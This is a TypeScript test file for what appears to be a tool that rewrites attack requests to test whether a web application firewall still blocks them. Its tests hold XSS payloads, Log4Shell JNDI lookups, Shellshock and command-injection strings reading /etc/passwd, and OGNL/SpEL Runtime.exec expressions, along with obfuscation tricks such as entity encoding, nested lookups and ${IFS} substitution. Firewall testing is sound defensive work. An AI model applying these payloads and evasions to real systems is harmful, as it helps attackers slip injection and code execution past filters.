// html-entity and whitespace: payload rewrites that depend on the target language.

import { describe, expect, it } from 'vitest';
import { type HttpRequest, type RequestInit, buildRequest } from '../requests/model.js';
import { htmlEntityDecode } from '../evaluator/transforms/html-entity-decode.js';
import { urlDecode } from '../evaluator/transforms/url-decode.js';
import { deriveVariants } from './index.js';
import { attributeEdits } from './techniques/html-entity.js';
import { expressionRegions, shellRegions } from './techniques/whitespace.js';

const HEADERS: [string, string][] = [
  ['Host', 't.example'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:1) Gecko'],
];

function req(init: Partial<RequestInit> & { uri: string }): HttpRequest {
  return buildRequest({ id: 'r', method: 'GET', headers: HEADERS, expect: 'block', ...init });
}

const only = (r: HttpRequest, t: string) => deriveVariants(r, { techniques: [t] });

describe('html-entity', () => {
  const r = req({ uri: '/s?q=%22%3E%3Csvg/onload=alert(1)%3E', class: 'xss' });

  it('hex references for every byte, then named references for punctuation', () => {
    const [hex, named] = only(r, 'html-entity');
    expect(urlDecode(hex!.query)).toBe('q="><svg/onload=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>');
    expect(urlDecode(named!.query)).toBe('q="><svg/onload=&#97;lert&lpar;1&rpar;>');
    // `&`, `#` and `;` are percent-encoded, so the query still has one parameter
    expect(hex!.uri).toMatch(/^\/s\?q=%22%3E%3Csvg\/onload=%26%23x61%3B%26%23x6c%3B/);
    expect(named!.id).toBe('r~html-entity-2');
  });

  it('the browser decodes the references back to the original payload', () => {
    for (const v of only(r, 'html-entity'))
      expect(htmlEntityDecode(urlDecode(v.query))).toBe(urlDecode(r.query));
  });

  it('encodes javascript: URLs in quoted attributes, skips inert attributes and <script> text', () => {
    const d = '<a href="javascript:alert(1)" title="x:y">t</a><script>alert(1)</script><img src=x>';
    const edits = attributeEdits(d, 'named');
    expect(edits).toEqual([{ start: 9, end: 28, text: '&#106;avascript&colon;alert&lpar;1&rpar;' }]);
    expect(d.slice(9, 28)).toBe('javascript:alert(1)');
  });

  it('only for xss', () => {
    expect(only(req({ uri: r.uri, class: 'sqli' }), 'html-entity')).toEqual([]);
  });
});

describe('whitespace: jndi-injection', () => {
  const r = req({
    uri: '/?x=${jndi:ldap://a.example/b}',
    headers: [...HEADERS, ['X-Api-Version', '%24%7Bjndi:dns://a.example%7D']],
    class: 'jndi-injection',
  });

  it('builds jndi from nested lookups: ${lower:j}, then ${::-x} for every letter', () => {
    const [lower, dflt] = only(r, 'whitespace');
    expect(lower!.uri).toBe('/?x=${${lower:j}ndi:ldap://a.example/b}');
    expect(dflt!.uri).toBe('/?x=${${::-j}${::-n}${::-d}${::-i}:ldap://a.example/b}');
    expect(lower!.headers.at(-1)).toEqual(r.headers.at(-1)); // a header is not URL-decoded: no lookup there
  });

  it('works on the decoded text of encoded values and re-encodes the new bytes', () => {
    const e = req({ uri: '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D', class: 'jndi-injection' });
    const [lower] = only(e, 'whitespace');
    expect(lower!.uri).toBe('/?x=%24%7B$%7Blower:j%7Dndi%3Aldap%3A%2F%2Fa%7D');
    expect(urlDecode(lower!.query)).toBe('x=${${lower:j}ndi:ldap://a}');
  });
});

describe('whitespace: command-injection', () => {
  it('finds commands after shell metacharacters only', () => {
    expect(shellRegions(';cat /etc/passwd')).toEqual([[1, 16]]);
    expect(shellRegions('x$(wget a b)y')).toEqual([[3, 11]]);
    expect(shellRegions("echo 'a;id b'")).toEqual([]);
    expect(shellRegions('Mozilla/5.0 (X11; Linux x86_64)')).toEqual([]);
    expect(shellRegions('() { ignored; }; echo x')).toEqual([[16, 23]]);
  });

  it('${IFS}, then a tab, between shell words; quotes and the Shellshock prefix untouched', () => {
    const r = req({
      uri: "/s?cmd=x;cat%20/etc/passwd%20'a%20b'",
      headers: [...HEADERS, ['Referer', '() { :; }; /bin/cat /etc/passwd']],
      class: 'command-injection',
    });
    const [ifs, tab] = only(r, 'whitespace');
    expect(ifs!.uri).toBe("/s?cmd=x;cat$%7BIFS%7D/etc/passwd$%7BIFS%7D'a%20b'");
    expect(urlDecode(ifs!.query)).toBe("cmd=x;cat${IFS}/etc/passwd${IFS}'a b'");
    expect(ifs!.headers.slice(1)).toEqual([
      HEADERS[1],
      ['Referer', '() { :; };${IFS}/bin/cat${IFS}/etc/passwd'],
    ]);
    expect(tab!.uri).toBe("/s?cmd=x;cat%09/etc/passwd%09'a%20b'");
    expect(tab!.headers.at(-1)).toEqual(['Referer', '() { :; };\t/bin/cat\t/etc/passwd']);
  });

  it('inside $( ) in an XML body, with Content-Length kept right', () => {
    const r = req({
      method: 'PUT',
      uri: '/SDK/webLanguage',
      headers: [...HEADERS, ['Content-Type', 'application/xml'], ['Content-Length', '32']],
      body: '<language>$(echo a>b)</language>',
      class: 'command-injection',
    });
    const [ifs] = only(r, 'whitespace');
    expect(ifs!.body).toBe('<language>$(echo${IFS}a>b)</language>');
    expect(ifs!.headers.at(-1)).toEqual(['Content-Length', '37']);
  });
});

describe('whitespace: expression-injection', () => {
  it('finds ${...}, %{...}, #{...} and a SpEL T(...) chain', () => {
    expect(expressionRegions('a%{1*2}b')).toEqual([[3, 6]]);
    expect(expressionRegions("${'}'+x}")).toEqual([[2, 7]]);
    expect(expressionRegions('T(java.lang.Runtime).getRuntime().exec("id") tail')).toEqual([[2, 43]]);
  });

  it('a space (then a tab) after ( and , and around * and =, never inside string literals', () => {
    const r = req({
      uri: "/s.action?x=%25%7B(%23a%3D%40java.lang.Runtime%40getRuntime().exec('id%20a,b'))%7D",
      headers: [...HEADERS, ['X-Expr', 'T(java.lang.Runtime).getRuntime().exec("id",1)']],
      class: 'expression-injection',
    });
    const [spaces, tabs] = only(r, 'whitespace');
    expect(urlDecode(spaces!.query)).toBe("x=%{( #a = @java.lang.Runtime@getRuntime().exec( 'id a,b'))}");
    expect(spaces!.headers.at(-1)).toEqual(['X-Expr', 'T(java.lang.Runtime).getRuntime().exec( "id", 1)']);
    expect(urlDecode(tabs!.query)).toBe("x=%{(\t#a\t=\t@java.lang.Runtime@getRuntime().exec(\t'id a,b'))}");
    const r2 = req({ uri: '/?id=x%25{16*8787}', class: 'expression-injection' });
    expect(only(r2, 'whitespace')[0]!.uri).toBe('/?id=x%25{16%20*%208787}');
  });

  it('nothing for other classes', () => {
    expect(only(req({ uri: '/?x=${jndi:a}', class: 'xss' }), 'whitespace')).toEqual([]);
  });
});
